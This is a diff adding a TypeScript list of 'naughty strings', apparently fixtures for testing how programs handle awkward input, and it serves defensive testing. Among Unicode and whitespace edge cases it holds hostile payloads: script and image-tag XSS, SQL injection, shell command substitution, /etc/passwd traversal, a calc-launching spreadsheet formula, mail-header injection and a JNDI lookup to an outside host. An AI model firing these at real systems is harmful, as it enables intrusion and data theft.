@@ -1,0 +1,77 @@
+/** Texts that break programs: each is to be kept exactly or refused clearly, wherever somebody may type it. */
+export const naughtyStrings: readonly string[] = [
+  // Nothing, and what looks like nothing
+  ' ',
+  '\u00a0',
+  '\u3000',
+  '\u200b',
+  '\ufeff',
+  '\t\n\r',
+  // Words that programs take for something else
+  'undefined',
+  'null',
+  'NaN',
+  'true',
+  '[object Object]',
+  '__proto__',
+  'constructor',
+  'hasOwnProperty',
+  // Numbers of all kinds
+  '0',
+  '-1',
+  '1e309',
+  '0x7f',
+  '1.7976931348623157e309',
+  '٠١٢٣٤٥٦٧٨٩',
+  '１２３４５６７８',
+  // Signs, quotation marks, escapes
+  '\'";--\\`',
+  '%s%d%n%x',
+  '{{7*7}}${7*7}#{7*7}',
+  '{name, plural, one {#} other {#}}',
+  '<b>{0}</b>',
+  '\\u0000',
+  '%00%0d%0a',
+  // What cannot be printed
+  '\u0000',
+  'a\u0000b',
+  '\u0007\u001b[31m',
+  '\u007f',
+  '\u0085',
+  '\ud800',
+  'a\udc00b',
+  '\u2028\u2029',
+  // Letters and signs beyond the everyday
+  'ľščťžýáíéúäňôŕĺ ĎŇŤ',
+  'e\u0301\u0301\u0301\u0301',
+  'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮',
+  'ﬁ ß İ ı ǅ',
+  '李明 田中さん 김철수',
+  'مرحبا שלום',
+  '👩‍👩‍👧‍👦🇸🇰',
+  '𝒥𝒶𝓃𝒶',
+  // Signs that turn the direction of writing
+  '\u202ereverse\u202c',
+  '\u2066isolate\u2069',
+  '\u200fmark',
+  // Mail headers
+  'Jana\r\nBcc: everybody@dennik.example',
+  'Jana\nSubject: x',
+  // Pages
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  'javascript:alert(1)',
+  '<svg/onload=alert(1)>',
+  '<!--#exec cmd="ls /"-->',
+  // Databases, shells, files
+  "1' or '1'='1",
+  "Robert'); drop table users;--",
+  '$(touch /tmp/x) `id` ; id | id',
+  '../../../../etc/passwd',
+  'file:///etc/passwd',
+  "=cmd|' /C calc'!A0",
+  '${jndi:ldap://dennik.example/a}',
+  // Too much of it
+  'ž'.repeat(500),
+  'a '.repeat(300),
+]
